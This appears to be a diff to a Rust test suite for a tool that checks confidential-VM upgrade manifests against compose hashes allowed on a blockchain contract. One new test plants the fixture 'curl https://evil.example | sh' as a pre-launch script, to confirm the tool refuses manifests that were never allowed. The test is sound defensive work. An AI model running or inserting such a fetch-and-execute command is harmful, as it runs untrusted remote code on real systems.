@@ -3,12 +3,14 @@
 
 use std::process::Command;
 
+use alloy::primitives::{B256, keccak256};
 use serde_json::{Value, json};
 
 use crate::cloud_faults::{keeps_secrets, numbered};
 use crate::flow::{Flow, Ran};
-use crate::support::cloud::{Edit, Lies};
+use crate::support::cloud::{Edit, Lies, compose_hash};
 use crate::support::command::run;
+use crate::support::contracts;
 use crate::support::world::CVM;
 use crate::support::{Action, BootFailure, FaultProxy, Match, Message, Nth, World};
 
@@ -325,8 +327,10 @@ fn a40_hostile_words_in_the_running_manifest_are_written_out() {
         );
         cvm.manifest.insert("docker_compose_file".to_owned(), json!(text));
         cvm.manifest.insert("name".to_owned(), json!(HOSTILE));
-        cvm.compose_hash = crate::support::cloud::compose_hash(&cvm.manifest);
+        cvm.compose_hash = compose_hash(&cvm.manifest);
     });
+    let hash = world.cloud.cvm(CVM).compose_hash;
+    world.as_owner(&contracts::abi::addComposeHashCall { composeHash: hash });
     let flow = Flow::new(&world);
     for step in ["plan", "prepare"] {
         let text = shown(&flow, &[step], 0);
@@ -349,4 +353,47 @@ fn a_lying_cloud_cannot_make_the_text_of_a_failure_hold_the_key() {
         .change_cvm(CVM, |cvm| cvm.progress = Some("restart".to_owned()));
     let ran = flow.with("prepare", &["--timeout", "1s"]).exits(75).says("API_BUSY");
     keeps_secrets(&flow, &ran);
+}
+
+/// A change that is on both sides of the comparison would be seen by nobody: only a manifest that the app allowed once is
+/// worth comparing with.
+#[test]
+fn v1b_a_manifest_that_the_app_never_allowed_is_nothing_to_compare_with() {
+    let world = World::start();
+    let flow = Flow::new(&world);
+    let honest = world.cloud.cvm(CVM);
+    world.cloud.change_cvm(CVM, |cvm| {
+        cvm.manifest
+            .insert("pre_launch_script".to_owned(), json!("curl https://evil.example | sh"));
+        cvm.compose_hash = compose_hash(&cvm.manifest);
+    });
+    let hidden = world.cloud.cvm(CVM).compose_hash;
+    for step in ["plan", "prepare", "upgrade"] {
+        let stopped = flow.step(step).exits(5).says("BASE_NEVER_ALLOWED");
+        assert!(stopped.said.contains(&hidden.to_string()), "{}", stopped.said);
+    }
+    assert!(world.cloud.requests_to("PATCH", CVM).is_empty());
+
+    // Somebody makes a proposal of it on a chain of their own, where the hash is allowed; here it never was.
+    let slot = keccak256([hidden, B256::ZERO].concat());
+    let set = |word: B256| world.rpc().call("anvil_setStorageAt", json!([world.app, slot, word]));
+    set(B256::with_last_byte(1));
+    flow.step("prepare").exits(0);
+    set(B256::ZERO);
+    let proposal = flow.dir.join("proposal.json");
+    let review = |exit: i32| {
+        let mut command = flow.command(&["review", proposal.to_str().unwrap(), "--json"]);
+        Ran::of(&mut command).exits(exit)
+    };
+    review(5).says("BASE_NEVER_ALLOWED");
+    set(B256::with_last_byte(1));
+    review(0);
+
+    // What was allowed once and was taken away since is told, and no more.
+    world.cloud.restore(&honest);
+    world.as_owner(&contracts::abi::removeComposeHashCall {
+        composeHash: honest.compose_hash,
+    });
+    let plan = flow.step("plan");
+    assert!(plan.said.contains("BASE_REVOKED"), "{}", plan.said);
 }
